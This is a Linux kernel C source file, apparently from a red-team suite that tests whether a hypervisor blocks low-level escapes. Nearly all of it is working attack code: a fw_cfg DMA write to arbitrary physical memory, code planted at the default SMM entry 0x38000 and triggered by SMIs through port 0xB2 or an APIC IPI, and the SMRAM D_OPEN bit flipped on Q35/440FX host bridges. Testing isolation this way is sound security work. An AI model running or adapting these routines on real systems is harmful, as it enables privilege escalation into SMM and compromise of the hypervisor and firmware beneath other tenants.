// SPDX-License-Identifier: MIT OR GPL-2.0
/*
 * I/O ports that reach below: fw_cfg's DMA, SMIs, and the chipset's key to SMM memory. An SMI is
 * seen by code of ours in SMM: firmware often leaves CPUs other than the first with their SMM entry
 * at 0x38000, in ordinary memory.
 */
#include <linux/delay.h>
#include <linux/gfp.h>
#include <linux/io.h>
#include <linux/irqflags.h>
#include <linux/pci.h>
#include <linux/smp.h>
#include <linux/string.h>

#include <asm/msr-index.h>

#include "redteam/root/attack.h"

#define FW_CFG_DMA_PORT 0x514
#define FW_CFG_ERROR 0x01
#define FW_CFG_READ 0x02
#define FW_CFG_SELECT 0x08

struct fw_cfg_dma {
	__be32 control;
	__be32 length;
	__be64 address;
};

/* Read the 4 bytes of file 0, "QEMU", to physical. */
static int fw_cfg_write_to(struct fw_cfg_dma *dma, phys_addr_t physical)
{
	u64 at = virt_to_phys(dma);
	int fault;

	dma->control = cpu_to_be32(FW_CFG_SELECT | FW_CFG_READ);
	dma->length = cpu_to_be32(4);
	dma->address = cpu_to_be64(physical);
	wmb(); /* the device reads it on the second OUT */
	fault = try_out32(FW_CFG_DMA_PORT, (__force u32)cpu_to_be32(at >> 32));
	if (fault == NO_FAULT)
		fault = try_out32(FW_CFG_DMA_PORT + 4, (__force u32)cpu_to_be32((u32)at));
	mb(); /* the device has written */
	return fault;
}

/* No IOMMU stands between fw_cfg and memory. */
static struct outcome fw_cfg(const struct attack *attack)
{
	u8 *page = (void *)get_zeroed_page(GFP_KERNEL);
	struct fw_cfg_dma *dma = (void *)page;
	struct outcome result;
	int fault;

	if (!page)
		return outcome(ERROR, "no memory");
	fault = fw_cfg_write_to(dma, virt_to_phys(page + 2048));
	if (fault != NO_FAULT)
		result = blocked_by(fault);
	else if (memcmp(page + 2048, "QEMU", 4) != 0)
		result = below_hypervisor() ? outcome(BLOCKED, "not even our own page was written")
					    : outcome(SKIPPED, "bare: this machine has no fw_cfg");
	else if (fw_cfg_write_to(dma, victim(0) + 1024) != NO_FAULT ||
		 (be32_to_cpu(dma->control) & FW_CFG_ERROR) || dma->control)
		result = outcome(BLOCKED, "our own page was written, this one not");
	else
		result = outcome(SUCCEEDED, "the device says that it wrote to %#llx", victim(0));
	if (result.verdict == SUCCEEDED && victim_is_ours()) {
		u64 value = 0;

		window_read64(victim(0) + 1024, &value);
		if ((u32)value != 0x554d4551)
			result = outcome(ERROR, "nothing is there");
	}
	free_page((unsigned long)page);
	return result;
}

/* Runs in SMM with CS at 0x30000. */
asm(".pushsection .rodata, \"a\"\n"
    ".code16\n"
    "smm_code:\n"
    "	incl %cs:0x8100\n"
    "	rsm\n"
    "smm_code_end:\n"
    ".code64\n"
    ".popsection\n");

extern const u8 smm_code[], smm_code_end[];

#define SMM_DEFAULT_BASE 0x30000
#define SMM_IMAGE (SMM_DEFAULT_BASE + 0x8000)
#define SMM_IMAGE_BYTES 0x8000
#define SMM_MARK (SMM_DEFAULT_BASE + 0x8100)

struct smi_try {
	bool by_ipi;
	u32 destination;
	int fault;
	u64 count; /* of SMIs, all CPUs */
	bool done;
};

static void smi_count_here(void *data)
{
	u64 *sum = data;
	u64 count = 0;

	try_rdmsr(0x34, &count); /* Intel's, and QEMU's; else 0 */
	*sum += count;
}

static u64 smi_count(void)
{
	u64 sum = 0;
	int cpu;

	for_each_online_cpu(cpu) smp_call_function_single(cpu, smi_count_here, &sum, 1);
	return sum;
}

static void smi_send(void *data)
{
	struct smi_try *try = data;

	if (try->by_ipi)
		try->fault = apic_icr(try->destination, MODE_SMI | ICR_ASSERT);
	else
		try->fault = try_out8(0xb2, 0x5a); /* no command of ACPI or of SeaBIOS */
	udelay(100);
	WRITE_ONCE(try->done, true);
}

static struct outcome smi_judge(const struct smi_try *try, u32 marks, u64 denied, bool closed)
{
	if (marks)
		return outcome(SUCCEEDED, "our code ran %u times in SMM", marks);
	if (try->count)
		return outcome(SUCCEEDED, "firmware's SMM code ran %llu times", try->count);
	if (try->fault != NO_FAULT)
		return outcome(BLOCKED, "%s%s", fault_name(try->fault),
			       closed ? ", and no code can be planted at 0x38000" : "");
	if (!below_hypervisor())
		return outcome(SKIPPED, "bare: no SMI came");
	return outcome(BLOCKED, "%s, %s",
		       denied_count() != denied ? "refused" : "no effect, not counted",
		       closed ? "and no code can be planted at 0x38000" : "no SMI came");
}

bool cpu_lost;

/* Put our code where an SMI enters by default, if that can be written. False: cannot tell. */
bool smm_plant(struct smm_plant *plant)
{
	u8 *image = __va(SMM_IMAGE);
	u64 changed;

	*plant = (struct smm_plant){};
	if (!page_is_ram(SMM_IMAGE >> PAGE_SHIFT)) {
		/* That the memory map leaves it out is not yet a block. */
		window_exchange64(SMM_IMAGE, ~0ull, &changed);
		plant->closed = !changed;
		return plant->closed;
	}
	plant->saved = (void *)__get_free_pages(GFP_KERNEL, get_order(SMM_IMAGE_BYTES));
	if (!plant->saved)
		return false;
	memcpy(plant->saved, image, SMM_IMAGE_BYTES);
	memcpy(image, smm_code, smm_code_end - smm_code);
	*(u32 *)__va(SMM_MARK) = 0;
	return true;
}

static u32 smm_marks(const struct smm_plant *plant)
{
	return plant->closed ? 0 : READ_ONCE(*(u32 *)__va(SMM_MARK));
}

/* Answers how often our code ran. */
u32 smm_unplant(const struct smm_plant *plant)
{
	u32 marks = smm_marks(plant);

	if (!plant->closed) {
		memcpy(__va(SMM_IMAGE), plant->saved, SMM_IMAGE_BYTES);
		free_pages((unsigned long)plant->saved, get_order(SMM_IMAGE_BYTES));
	}
	return marks;
}

static struct outcome smi(const struct attack *attack)
{
	static struct smi_try try; /* static: a CPU that hangs may come back to it */
	unsigned int cpu = cpu_online(1) ? 1 : 0;
	struct smm_plant plant;
	unsigned int waited;
	u64 denied;

	if (cpu_lost)
		return outcome(SKIPPED, "a CPU was lost before");
	if (!smm_plant(&plant))
		return outcome(ERROR, "cannot plant code at 0x38000, though it can be written");
	denied = denied_count();
	try = (struct smi_try){ .by_ipi = attack->argument };
	try.destination = per_cpu(x86_cpu_to_apicid, cpu);
	try.count = smi_count();
	smp_call_function_single(cpu, smi_send, &try, 0);
	for (waited = 0; waited < 200 && !READ_ONCE(try.done); waited++)
		mdelay(10); /* if the lost CPU kept the time, msleep() would not return */
	if (!READ_ONCE(try.done)) {
		cpu_lost = true;
		/* Nothing is put back: the CPU may be there. */
		return outcome(SUCCEEDED, "CPU %u is lost; our code ran %u times in SMM", cpu,
			       smm_marks(&plant));
	}
	try.count = smi_count() - try.count;
	return smi_judge(&try, smm_unplant(&plant), denied, plant.closed);
}

/* Bit D_OPEN of the host bridge shows SMM memory to everyone, if firmware has not locked it. */
static struct outcome smram_open(const struct attack *attack)
{
	struct pci_dev *bridge = pci_get_domain_bus_and_slot(0, 0, PCI_DEVFN(0, 0));
	u64 closed = 0, open = 0;
	u8 old, new;
	int where;

	if (!bridge || bridge->vendor != PCI_VENDOR_ID_INTEL) {
		pci_dev_put(bridge);
		return outcome(SKIPPED, "no Intel host bridge");
	}
	where = bridge->device == 0x29c0 ? 0x9d : 0x72; /* Q35 or 440FX */
	pci_read_config_byte(bridge, where, &old);
	window_read64(0xa8000, &closed);
	pci_write_config_byte(bridge, where, old | 0x40);
	pci_read_config_byte(bridge, where, &new);
	window_read64(0xa8000, &open);
	pci_write_config_byte(bridge, where, old);
	pci_dev_put(bridge);
	if (new & ~old & 0x40)
		return outcome(SUCCEEDED, "SMRAM is open: 0xa8000 shows %#llx, before %#llx", open,
			       closed);
	return below_hypervisor() ? outcome(BLOCKED, "SMRAM register stays %#x", new)
				  : outcome(SKIPPED, "bare: firmware has locked it");
}

const struct attack port_attacks[] = {
	{ "fw-cfg-dma", "a write to hypervisor memory that no IOMMU sees", fw_cfg },
	{ "smi-port", "code in SMM, below the hypervisor", smi, false },
	{ "smi-ipi", "code in SMM, below the hypervisor", smi, true },
	{ "smram-open", "code in SMM, below the hypervisor", smram_open },
	{}
};
